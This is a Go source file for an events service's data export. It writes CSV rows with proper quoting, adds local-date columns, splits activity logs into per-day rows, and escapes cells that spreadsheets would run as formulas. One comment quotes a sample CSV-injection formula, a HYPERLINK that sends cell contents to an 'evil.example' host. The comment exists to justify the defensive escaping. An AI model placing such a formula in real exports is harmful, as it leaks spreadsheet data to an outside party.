// Copyright 2026 The events authors.
// SPDX-License-Identifier: Apache-2.0

package models

import (
	"strconv"
	"strings"
	"time"
	"unicode"
	"unicode/utf8"
)

// CSVFormulas is how a CSV export writes a text cell that a spreadsheet
// would run as a formula: one that begins with =, +, -, @, a tab or a
// carriage return (OWASP, "CSV Injection"). A title such as
// =HYPERLINK("http://evil.example/?"&A1, "click") would otherwise run in
// the owner's spreadsheet, and a title can come from anywhere an import
// or a shared calendar brings it.
type CSVFormulas uint8

const (
	// CSVFormulasEscaped writes such a cell with a leading ' (the default):
	// spreadsheets show the text and run nothing; the ' is the cell's
	// first character for a program that reads the file.
	CSVFormulasEscaped CSVFormulas = iota
	// CSVFormulasRaw writes every cell as stored (formulas=raw), for a
	// script that reads the file.
	CSVFormulasRaw
)

// IsCSVFormula reports whether a cell of text s would be read as a formula
// by a spreadsheet: it begins with =, +, -, @, a tab or a carriage return.
func IsCSVFormula(s string) bool {
	return s != "" && strings.IndexByte("=+-@\t\r", s[0]) >= 0
}

// CSVBOM is the UTF-8 byte-order mark a CSV export begins with unless
// bom=0: without it Excel reads the file in the system's legacy code page
// and Hangul comes out garbled.
const CSVBOM = "\xEF\xBB\xBF"

// CSVLocalColumns are the columns a CSV export writes after the event's
// JSON fields: where the event sits in the request's zone, for a
// spreadsheet (CSVOptions.appendLocal says what each holds per kind).
var CSVLocalColumns = []string{"local_date", "local_start", "local_end", "minutes", "counted_minutes"}

// CSVOptions are how a CSV export writes its rows.
type CSVOptions struct {
	Formulas CSVFormulas
	// Loc is the request's zone (?tz=, else EVENTS_TIMEZONE): the local
	// columns' dates and clock times are read in it.
	Loc *time.Location
	// DayLoc is the service's zone (EVENTS_TIMEZONE), in which an all-day
	// entry's midnights and a task's due day without a clock time were
	// stored: their dates are read there, so 24 Nov stays 24 Nov whatever
	// ?tz= says. Nil: Loc.
	DayLoc *time.Location
	// Now ends a running log's last piece: it counts up to now, as in the
	// summary. Zero: a running log is one row without an end.
	Now time.Time
	// From and To are the export's window, if any: a log's pieces on days
	// outside it are left out, so the rows hold the window's days only.
	From, To *time.Time
	// Counted is what a log's piece of the local date day counts toward
	// that day (DESIGN.md, Summary: the union and sharing rule, in shown
	// minutes): the counted_minutes cell. Nil leaves the cell empty.
	Counted func(id int64, day string) int64
}

func (o CSVOptions) dayLoc() *time.Location {
	if o.DayLoc != nil {
		return o.DayLoc
	}
	return o.Loc
}

// Layouts of the local columns.
const (
	csvLocalDate     = "2006-01-02"
	csvLocalDateTime = "2006-01-02 15:04"
)

// AppendCSVRecord appends e's line of a CSV export (DESIGN.md, Export): text
// as it is, times as in JSON, true and false, numbers, and an empty cell for
// null, each cell as encoding/csv's Writer with UseCRLF writes it (RFC 4180:
// quoted when it holds a quote, a comma, a line break, or starts with white
// space; CRLF line ends); then the CSVLocalColumns. An activity log whose
// span crosses local midnight is a line per day piece (DESIGN.md, Summary,
// Days), each with the same fields and its own local columns. Written in place, a
// row's times, numbers and texts make no strings of their own (a year's
// export is 100,000 rows).
//
// With CSVFormulasEscaped, a text cell that IsCSVFormula gets a leading '.
// Only text cells can: every other cell is the server's own writing, a
// time (the API takes years 0001 to 9999, so four digits come first), a
// local date or time (the same four digits), true or false, or a number
// that is never negative (ids, priority 0 to 3, held so by the database,
// and minutes, which an end never before its start keeps at 0 or more), so
// none begins with one of those characters, and a number stays a number.
func AppendCSVRecord(b []byte, e *Event, o CSVOptions) []byte {
	start := len(b)
	b = appendCSVFields(b, e, o)
	pieces := o.LogPieces(e)
	if pieces == nil {
		b = o.appendLocal(b, e)
		return append(b, "\r\n"...)
	}
	end := len(b)
	for i, p := range pieces {
		if i > 0 {
			b = append(b, b[start:end]...)
		}
		b = o.appendPiece(b, e, p, i == len(pieces)-1)
		b = append(b, "\r\n"...)
	}
	return b
}

// appendCSVFields appends the cells of e's JSON fields.
func appendCSVFields(b []byte, e *Event, o CSVOptions) []byte {
	for i := range EventFields {
		if i > 0 {
			b = append(b, ',')
		}
		f := &EventFields[i]
		switch f.Type {
		case TypeText, TypeEnum:
			s, _ := f.getText(e)
			if o.Formulas == CSVFormulasEscaped && IsCSVFormula(s) {
				s = "'" + s // rare: the one string a row may make
			}
			b = appendCSVField(b, s)
		case TypeTime:
			if t := f.getTime(e); t != nil {
				b = AppendTime(b, *t)
			}
		case TypeLabels:
			s := strings.Join(*f.getLabels(e), LabelsSeparator)
			if o.Formulas == CSVFormulasEscaped && IsCSVFormula(s) {
				s = "'" + s
			}
			b = appendCSVField(b, s)
		case TypeBool:
			b = strconv.AppendBool(b, *f.getBool(e))
		case TypeDate:
			if d, ok := f.getDate(e); ok {
				b = AppendDate(b, d)
			}
		default:
			b = strconv.AppendInt(b, f.getInt(e), 10)
		}
	}
	return b
}

// LogPieces are the rows of an activity log with a start: a piece per
// local day its span reaches into (DayPieces; a running log up to o.Now),
// those of the days outside o's window left out. Nil for any other event:
// it is one row.
func (o CSVOptions) LogPieces(e *Event) []DayPiece {
	if e.Kind != KindActivityLog || e.StartedAt == nil {
		return nil
	}
	end := e.EndedAt
	if end == nil {
		if o.Now.IsZero() {
			return nil
		}
		end = &o.Now
	}
	all := DayPieces(*e.StartedAt, *end, o.Loc)
	kept := all[:0]
	for _, p := range all {
		if o.From != nil && (p.End.Before(*o.From) || p.End.Equal(*o.From) && p.End.After(p.Start)) {
			continue
		}
		if o.To != nil && !p.Start.Before(*o.To) {
			continue
		}
		kept = append(kept, p)
	}
	if len(kept) == 0 {
		return all[:1]
	}
	return kept
}

// appendPiece appends the local columns of a log's piece p: its date, its
// bounds and length (no end and no length for the last piece of a running
// log), and what it counts toward its day (0 for a cancelled log).
func (o CSVOptions) appendPiece(b []byte, e *Event, p DayPiece, last bool) []byte {
	b = append(append(b, ','), p.Date...)
	b = p.Start.In(o.Loc).AppendFormat(append(b, ','), csvLocalDateTime)
	b = append(b, ',')
	running := last && e.EndedAt == nil
	if !running {
		b = p.End.In(o.Loc).AppendFormat(b, csvLocalDateTime)
	}
	b = append(b, ',')
	if !running {
		b = strconv.AppendInt(b, (Seconds(p.Start, p.End)+30)/60, 10) // whole seconds: no 292-year limit
	}
	b = append(b, ',')
	switch {
	case e.Status == StatusCancelled:
		b = append(b, '0')
	case o.Counted != nil:
		b = strconv.AppendInt(b, o.Counted(e.ID, p.Date), 10)
	}
	return b
}

// appendLocal appends ",local_date,local_start,local_end,minutes,counted_minutes"
// of an event that is one row (a log with a start is a row per piece,
// appendPiece):
//
//   - a task: its due time (else its start) as local_date and local_start,
//     the date alone for a due day without a clock time; no end, no minutes
//     (a task is a point in time, as in the listings' windows);
//   - a calendar entry: start_at and end_at; an all-day entry as dates,
//     its first and its last day (not the exclusive midnight after it);
//     minutes the span's length;
//   - an activity log: started_at and ended_at; minutes the span's length,
//     empty while it runs (its length is not known yet).
//
// local_date is the local date of the first of these times. minutes is the
// span's length rounded to the nearest minute, as the pages show a length;
// empty for an event without an end.
func (o CSVOptions) appendLocal(b []byte, e *Event) []byte {
	var start, end *time.Time
	day := false // all-day: dates only
	loc := o.Loc
	switch e.Kind {
	case KindCalendarEvent:
		start, end = e.StartAt, e.EndAt
		if e.AllDay {
			day, loc = true, o.dayLoc()
		}
	case KindActivityLog:
		start, end = e.StartedAt, e.EndedAt
	default:
		start = e.SpanStart()
		if dl := o.dayLoc(); e.DueAt != nil && DueDayOnly(*e.DueAt, dl) {
			day, loc = true, dl // a day without a time, read where it was written
		}
	}
	first := start
	if first == nil {
		first = end
	}
	b = append(b, ',')
	if first != nil {
		b = first.In(loc).AppendFormat(b, csvLocalDate)
	}
	layout := csvLocalDateTime
	if day {
		layout = csvLocalDate
	}
	b = append(b, ',')
	if start != nil {
		b = start.In(loc).AppendFormat(b, layout)
	}
	b = append(b, ',')
	if end != nil {
		last := *end
		if day && end.After(*start) {
			last = end.Add(-time.Nanosecond) // the last day, not the midnight after it
		}
		b = last.In(loc).AppendFormat(b, layout)
	}
	b = append(b, ',')
	if start != nil && end != nil {
		b = strconv.AppendInt(b, Minutes(*start, *end), 10)
	}
	b = append(b, ',')
	if e.Kind == KindActivityLog && (e.Status == StatusCancelled || o.Counted != nil) {
		b = append(b, '0') // a log without a start spans no time
	}
	return b
}

// AppendCSVHeader appends the header line of a CSV export: the event's JSON
// field names in the JSON order, then the CSVLocalColumns.
func AppendCSVHeader(b []byte) []byte {
	for i := range EventFields {
		if i > 0 {
			b = append(b, ',')
		}
		b = appendCSVField(b, EventFields[i].Name)
	}
	for _, name := range CSVLocalColumns {
		b = append(append(b, ','), name...)
	}
	return append(b, "\r\n"...)
}

// appendCSVField appends one cell as encoding/csv's Writer with UseCRLF
// writes it: in quotes when it holds a quote, a comma, CR or LF, is `\.`,
// or starts with white space, each quote doubled, each LF written as CRLF
// and each CR dropped (stored text holds no CR).
func appendCSVField(b []byte, s string) []byte {
	if !csvNeedsQuotes(s) {
		return append(b, s...)
	}
	b = append(b, '"')
	for len(s) > 0 {
		i := strings.IndexAny(s, "\"\r\n")
		if i < 0 {
			i = len(s)
		}
		b = append(b, s[:i]...)
		s = s[i:]
		if len(s) > 0 {
			switch s[0] {
			case '"':
				b = append(b, `""`...)
			case '\n':
				b = append(b, "\r\n"...)
			}
			s = s[1:]
		}
	}
	return append(b, '"')
}

func csvNeedsQuotes(s string) bool {
	if s == "" {
		return false
	}
	if s == `\.` || strings.ContainsAny(s, "\",\r\n") {
		return true
	}
	r, _ := utf8.DecodeRuneInString(s)
	return unicode.IsSpace(r)
}

// AppendExportJSON appends one line of an NDJSON export: e's JSON with a
// "history" array of its history rows, oldest first, and a newline.
func AppendExportJSON(b []byte, e *Event, history []History) ([]byte, error) {
	b = e.AppendJSON(b)
	b = append(b[:len(b)-1], `,"history":[`...)
	for i, h := range history {
		if i > 0 {
			b = append(b, ',')
		}
		j, err := h.MarshalJSON()
		if err != nil {
			return b, err
		}
		b = append(b, j...)
	}
	return append(b, "]}\n"...), nil
}
